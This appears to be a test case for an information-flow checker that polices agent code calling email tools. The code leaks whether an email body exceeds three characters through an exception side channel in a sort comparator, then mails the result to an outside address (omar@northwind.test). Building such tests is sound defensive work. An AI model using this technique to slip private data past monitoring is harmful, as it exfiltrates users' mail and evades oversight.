// attack: a field comparator with a third parameter reads a field of undefined; its native copy throws a raw error only when the email makes the array long enough to compare, and the catch sends
// normal: leaks (implicit flow, allowed in NORMAL mode: the push ran in a branch)
const m = await getEmail('m1');
const xs = [{ x: 1 }];
if (m.body.length > 3) xs.push({ x: 2 });
let sent = 'short';
try {
  xs.sort((a, b, c) => c.x);
} catch (e) {
  sent = 'long';
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: sent });
